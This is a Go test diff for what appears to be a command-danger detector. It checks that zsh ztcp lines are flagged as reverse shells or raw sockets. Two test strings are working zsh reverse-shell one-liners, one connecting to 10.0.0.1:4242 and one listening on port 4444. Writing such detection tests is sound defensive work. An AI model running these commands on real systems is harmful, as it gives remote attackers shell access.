@@ -84,3 +84,32 @@ func TestInterpreterLevels(t *testing.T) {
 		}
 	}
 }
+
+// zsh's ztcp: a raw connection is Medium, a shell whose stdio is the
+// connection is a reverse shell.
+func TestZtcp(t *testing.T) {
+	d := danger.MustNewDetector(nil)
+	for _, c := range []struct{ line, want string }{
+		{`zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`, "reverse_shell_ztcp"},
+		{`zmodload zsh/net/tcp; ztcp -l 4444; ztcp -a $REPLY; zsh <&$REPLY >&$REPLY`, "reverse_shell_ztcp"},
+		{`zmodload zsh/net/tcp; ztcp example.com 80`, "ztcp_socket"},
+	} {
+		if got := rulesFor(d, c.line); !contains(got, c.want) {
+			t.Errorf("Check(%s) = %v, want %s", c.line, got, c.want)
+		}
+	}
+	for _, line := range []string{`ztcp -c 3`, `ztcp`, `read; echo $REPLY`} {
+		if got := rulesFor(d, line); len(got) > 0 {
+			t.Errorf("Check(%s) = %v, want nothing", line, got)
+		}
+	}
+}
+
+func contains(list []string, s string) bool {
+	for _, x := range list {
+		if x == s {
+			return true
+		}
+	}
+	return false
+}
